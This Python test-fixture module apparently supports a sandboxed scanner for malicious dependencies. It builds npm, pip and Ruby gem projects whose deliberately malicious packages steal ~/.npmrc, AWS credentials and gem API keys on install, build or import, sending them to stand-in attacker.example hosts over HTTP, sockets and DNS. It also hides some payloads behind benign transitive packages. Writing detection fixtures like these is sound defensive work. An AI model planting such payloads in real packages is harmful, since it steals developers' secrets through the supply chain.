"""Projects for end-to-end scans, built in temporary directories, and a loopback gem server.

Malicious dependencies here only ever run inside Tracehound's sandbox, where every name resolves to
the sinkhole; their "attacker" hosts are .example names. They steal the sandbox's planted
honeytokens, so a scan that works must report the exfiltration as proven.
"""

from __future__ import annotations

import contextlib
import functools
import io
import json
import os
import shutil
import subprocess
import tarfile
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

BACKEND = os.environ.get("TRACEHOUND_TEST_BACKEND", "ptrace")


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def npm_lock(project: Path) -> None:
    """Resolve the project's lockfile against the real registry (no package code runs)."""
    subprocess.run(["npm", "install", "--package-lock-only", "--ignore-scripts", "--no-audit", "--no-fund"],
                   cwd=project, check=True, capture_output=True, timeout=300)


NPM_STEAL_INSTALL = (
    "node -e \"require('http').request({host:'collect.attacker.example',path:'/t',method:'POST'})"
    ".end(require('fs').readFileSync(require('os').homedir()+'/.npmrc'))\""
)

NPM_STEAL_IMPORT = """\
const fs = require('fs'), os = require('os'), http = require('http');
const creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
const req = http.request({host: 'telemetry.attacker.example', path: '/c', method: 'POST'});
req.on('error', () => {});
req.end(Buffer.from(creds).toString('base64'));
module.exports = {ok: true};
"""


def npm_project(root: Path, variant: str | None) -> Path:
    """is-number from the registry, plus (optionally) a local dependency that steals at install or import."""
    node_sources(root, variant)
    npm_lock(root)
    return root


def node_sources(root: Path, variant: str | None, *, tarball: bool = False) -> Path:
    """package.json (and vendor/evil-helper for a variant, as a directory or a vendored tarball)
    without a lockfile: the same project for npm, yarn and pnpm."""
    deps = {"is-number": "7.0.0"}
    if variant:
        pkg = {"name": "evil-helper", "version": "2.0.1", "main": "index.js", "license": "MIT"}
        index = "module.exports = {ok: true};\n"
        if variant == "install":
            pkg["scripts"] = {"postinstall": NPM_STEAL_INSTALL}
        else:
            index = NPM_STEAL_IMPORT
        files = {"package.json": json.dumps(pkg, indent=2), "index.js": index}
        if tarball:
            _npm_tarball(root / "vendor" / "evil-helper-2.0.1.tgz", files)
            deps["evil-helper"] = "file:vendor/evil-helper-2.0.1.tgz"
        else:
            for name, text in files.items():
                write(root / "vendor/evil-helper" / name, text)
            deps["evil-helper"] = "file:vendor/evil-helper"
    write(root / "package.json", json.dumps({"name": "shop", "version": "1.0.0", "private": True,
                                             "dependencies": deps}, indent=2))
    return root


def _npm_tarball(dest: Path, files: dict[str, str]) -> None:
    """Packed by hand: `npm pack` would run the package's prepack/prepare scripts."""
    dest.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(dest, "w:gz") as tf:
        for name, text in files.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size, info.mode = len(text.encode()), 0o644
            tf.addfile(info, io.BytesIO(text.encode()))


def npm_transitive_project(root: Path) -> Path:
    """app-helper (benign) requires evil-inner, whose load steals credentials; both vendored
    tarballs in package.json (a nested file: dependency would not resolve offline), so evil-inner
    is also loaded on its own; what matters is the load of app-helper."""
    _npm_tarball(root / "vendor" / "evil-inner-0.2.0.tgz", {
        "package.json": json.dumps({"name": "evil-inner", "version": "0.2.0", "main": "index.js"}),
        "index.js": NPM_STEAL_IMPORT})
    _npm_tarball(root / "vendor" / "app-helper-1.0.0.tgz", {
        "package.json": json.dumps({"name": "app-helper", "version": "1.0.0", "main": "index.js"}),
        "index.js": "if (process.argv.includes('TRACEHOUND_PACKAGE')) throw new Error('argv: ' + process.argv);\n"
                    "const inner = require('evil-inner');\nmodule.exports = {helper: inner.ok};\n"})
    write(root / "package.json", json.dumps({"name": "shop", "version": "1.0.0", "private": True, "dependencies": {
        "is-number": "7.0.0", "app-helper": "file:vendor/app-helper-1.0.0.tgz",
        "evil-inner": "file:vendor/evil-inner-0.2.0.tgz"}}, indent=2))
    npm_lock(root)
    return root


# how each manager writes its lockfile without running any package code: the malicious dependency
# must only ever run inside the scan's sandbox. yarn classic has no lockfile-only mode; with
# --ignore-scripts it only copies files into node_modules, which is deleted afterwards.
LOCK_ONLY = {
    "pnpm": ("pnpm9", "pnpm-lock.yaml", ["install", "--lockfile-only", "--ignore-scripts"]),
    "yarn-berry": ("yarn4", "yarn.lock", ["install", "--mode=update-lockfile"]),
    "yarn-classic": ("yarn1", "yarn.lock", ["install", "--ignore-scripts", "--non-interactive", "--no-progress"]),
}


def node_manager_lock(project: Path, manager: str, cache: Path) -> Path:
    """Resolve the lockfile with the manager version the adapter pins (corepack, npm registry only)."""
    from tracehound.ecosystems.corepack import DEFAULTS, corepack_env

    key, lockname, args = LOCK_ONLY[manager]
    spec = DEFAULTS[key]
    home = cache / "home"
    home.mkdir(parents=True, exist_ok=True)
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(home), "LANG": "C.UTF-8",
           **corepack_env(str(cache), spec, online=True),
           "npm_config_registry": "https://registry.npmjs.org/", "YARN_REGISTRY": "https://registry.npmjs.org/",
           "YARN_NPM_REGISTRY_SERVER": "https://registry.npmjs.org", "YARN_ENABLE_TELEMETRY": "0",
           "YARN_ENABLE_GLOBAL_CACHE": "false", "YARN_CACHE_FOLDER": str(cache / f"{manager}-cache"),
           "npm_config_store_dir": str(cache / "pnpm-store"), "npm_config_ignore_scripts": "true"}
    lock = project / lockname
    if manager == "yarn-berry":
        lock.write_text("")  # marks the project root for yarn berry
    subprocess.run(["corepack", spec, *args], cwd=project, env=env, check=True, capture_output=True, timeout=300)
    for leftover in ("node_modules", ".yarn", ".pnp.cjs", ".pnp.loader.mjs"):
        path = project / leftover
        if path.is_dir():
            shutil.rmtree(path)
        elif path.exists():
            path.unlink()
    assert lock.is_file() and lock.stat().st_size, f"{manager} wrote no {lockname}"
    return lock


def node_manager_project(root: Path, manager: str, variant: str | None, cache: Path, *,
                         tarball: bool = False) -> Path:
    """The npm_project's package.json and vendor/evil-helper, locked by yarn classic, yarn berry or pnpm."""
    node_sources(root, variant, tarball=tarball)
    node_manager_lock(root, manager, cache)
    return root


PY_SETUP = """\
from setuptools import setup
import os, socket, base64
if {steal_install}:
    data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
    try:
        s = socket.create_connection(('upload.attacker.example', 443), timeout=5)
        s.sendall(b'POST /u HTTP/1.1\\r\\nHost: upload.attacker.example\\r\\n\\r\\n' + base64.b64encode(data))
        s.close()
    except OSError:
        pass
setup(name='evil-utils', version='0.3.0', py_modules=['evil_utils'])
"""

PY_MODULE_IMPORT = """\
import os, socket
for line in open(os.path.expanduser('~/.aws/credentials')):
    if line.startswith('aws_access_key_id'):
        key = line.split('=', 1)[1].strip()
        try:
            socket.getaddrinfo(key.lower() + '.dns.attacker.example', 53)
        except OSError:
            pass
"""


def python_sdist(dest_dir: Path, variant: str) -> Path:
    """An sdist written by hand: building it with setup.py would run the payload on the host."""
    return _sdist(dest_dir, "evil-utils", "0.3.0", {
        "setup.py": PY_SETUP.format(steal_install="True" if variant == "install" else "False"),
        "evil_utils.py": PY_MODULE_IMPORT if variant == "import" else "VALUE = 1\n",
    })


def _sdist(dest_dir: Path, name: str, version: str, files: dict[str, str]) -> Path:
    base = f"{name.replace('-', '_')}-{version}"
    dest_dir.mkdir(parents=True, exist_ok=True)
    out = dest_dir / f"{base}.tar.gz"
    meta = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
            "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'}
    with tarfile.open(out, "w:gz") as tf:
        for fname, text in {**files, **meta}.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{base}/{fname}")
            info.size = len(data)
            info.mode = 0o644
            tf.addfile(info, io.BytesIO(data))
    return out


def pip_transitive_project(root: Path) -> Path:
    """app-helper (benign) imports evil-inner (its dependency), whose import steals credentials.

    Both are vendored sdists in ./vendor, a --find-links directory; only app-helper is required, so
    evil-inner is a dependency the project never names.
    """
    _sdist(root / "vendor", "evil-inner", "0.2.0", {
        "setup.py": "from setuptools import setup\nsetup(name='evil-inner', version='0.2.0', py_modules=['evil_inner'])\n",
        "evil_inner.py": PY_MODULE_IMPORT,
    })
    _sdist(root / "vendor", "app-helper", "1.0.0", {
        "setup.py": "from setuptools import setup\nsetup(name='app-helper', version='1.0.0', py_modules=['app_helper'], "
                    "install_requires=['evil-inner==0.2.0'])\n",
        # a package sees the argv an application would give it, not the driver's settings
        "app_helper.py": "import sys\nassert 'TRACEHOUND_PACKAGE' not in sys.argv, sys.argv\n"
                         "import evil_inner\nHELPER = 1\n",
    })
    write(root / "requirements.txt", "--find-links ./vendor\nsix==1.16.0\napp-helper==1.0.0\n")
    return root


def benign_slow_sdist(dest_dir: Path, seconds: float = 2.0) -> Path:
    """An sdist whose setup.py only sleeps: its build overlaps a neighbour's (parallel builds)."""
    return _sdist(dest_dir, "slow-build", "1.0.0", {
        "setup.py": f"import time\nfrom setuptools import setup\ntime.sleep({seconds})\n"
                    "setup(name='slow-build', version='1.0.0', py_modules=['slow_build'])\n",
        "slow_build.py": "VALUE = 2\n",
    })


def pip_project(root: Path, variant: str | None) -> Path:
    lines = ["six==1.16.0"]
    if variant:
        sdist = python_sdist(root / "vendor", variant)
        lines.append(f"./vendor/{sdist.name}")
    write(root / "requirements.txt", "\n".join(lines) + "\n")
    return root


class _QuietHandler(SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


GEM_SPEC = """\
Gem::Specification.new do |s|
  s.name = "{name}"; s.version = "{version}"; s.summary = "test gem"; s.authors = ["tracehound"]
  s.license = "MIT"; s.files = {files}
  {extra}
end
"""
GEM_STEAL_KEY = """\
require "socket"
token = File.read(File.join(Dir.home, ".gem", "credentials"))
begin
  s = TCPSocket.new("{host}", 8080)
  s.write("POST /k HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n" + token)
  s.close
rescue SystemCallError, SocketError
end
"""
GEM_DROPPER_EXTCONF = 'require "mkmf"\n' + GEM_STEAL_KEY.format(host="drop.attacker.example") + \
    'create_makefile("dropper/dropper")\n'
GEM_STEAL_ON_REQUIRE = GEM_STEAL_KEY.format(host="gems.attacker.example") + "module ShadeCore; end\n"


@contextlib.contextmanager
def gem_server(root: Path):
    """Serves `tidy-colors` (benign) and `colour-tools` (an extconf.rb that steals the gem API key)
    from 127.0.0.1; yields the port."""
    srv = root / "srv"
    (srv / "gems").mkdir(parents=True)
    gems = {
        "tidy-colors": ("1.2.0", {"lib/tidy-colors.rb": "module TidyColors; end\n"}, ""),
        "colour-tools": ("0.9.1", {
            "lib/colour-tools.rb": "module ColourTools; end\n",
            "ext/dropper/extconf.rb": GEM_DROPPER_EXTCONF,
            "ext/dropper/dropper.c": "#include <ruby.h>\nvoid Init_dropper(void) {}\n",
        }, 's.extensions = ["ext/dropper/extconf.rb"]'),
        # shade-palette (benign) requires its dependency shade-core, whose loading steals the API key
        "shade-core": ("0.1.0", {"lib/shade-core.rb": GEM_STEAL_ON_REQUIRE}, ""),
        "shade-palette": ("2.0.0", {"lib/shade-palette.rb": 'raise "argv: #{ARGV}" if ARGV.include?("TRACEHOUND_PACKAGE")\n'
                                                            'require "shade-core"\nmodule ShadePalette; end\n'},
                          's.add_dependency "shade-core", "0.1.0"'),
    }
    for name, (version, files, extra) in gems.items():
        d = root / name
        for rel, text in files.items():
            write(d / rel, text)
        write(d / f"{name}.gemspec", GEM_SPEC.format(name=name, version=version, files=json.dumps(sorted(files)),
                                                     extra=extra))
        subprocess.run(["gem", "build", f"{name}.gemspec"], cwd=d, check=True, capture_output=True)
        for g in d.glob("*.gem"):
            shutil.copy(g, srv / "gems" / g.name)
    subprocess.run(["gem", "generate_index", "-d", str(srv)], check=True, capture_output=True)
    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_QuietHandler, directory=str(srv)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def bundler_project(root: Path, port: int, malicious: bool, *, transitive: bool = False) -> Path:
    gems = [("tidy-colors", "1.2.0")] + ([("colour-tools", "0.9.1")] if malicious else [])
    if transitive:
        gems.append(("shade-palette", "2.0.0"))
    write(root / "Gemfile", f'source "http://127.0.0.1:{port}"\n\n'
          + "".join(f'gem "{n}", "{v}"\n' for n, v in gems))
    locked = {n: f"    {n} ({v})\n" for n, v in gems}
    if transitive:
        locked["shade-core"] = "    shade-core (0.1.0)\n"
        locked["shade-palette"] += "      shade-core (= 0.1.0)\n"
    specs = "".join(locked[n] for n in sorted(locked))
    deps = "".join(f"  {n} (= {v})\n" for n, v in sorted(gems))
    write(root / "Gemfile.lock", f"GEM\n  remote: http://127.0.0.1:{port}/\n  specs:\n{specs}\n"
          f"PLATFORMS\n  ruby\n  x86_64-linux\n\nDEPENDENCIES\n{deps}\nBUNDLED WITH\n   2.3.15\n")
    return root
